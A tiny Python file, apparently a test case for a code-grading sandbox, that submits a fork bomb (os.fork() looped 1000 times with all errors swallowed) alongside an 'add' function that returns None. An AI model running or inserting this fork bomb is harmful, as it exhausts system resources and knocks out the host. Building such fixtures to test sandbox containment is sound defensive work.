# attack: forks for ever and swallows every error on the way
# problem: add
# strict: wrong answer
import os

for _ in range(1000):
    try:
        os.fork()
    except Exception:
        pass


def add(a, b):
    return None
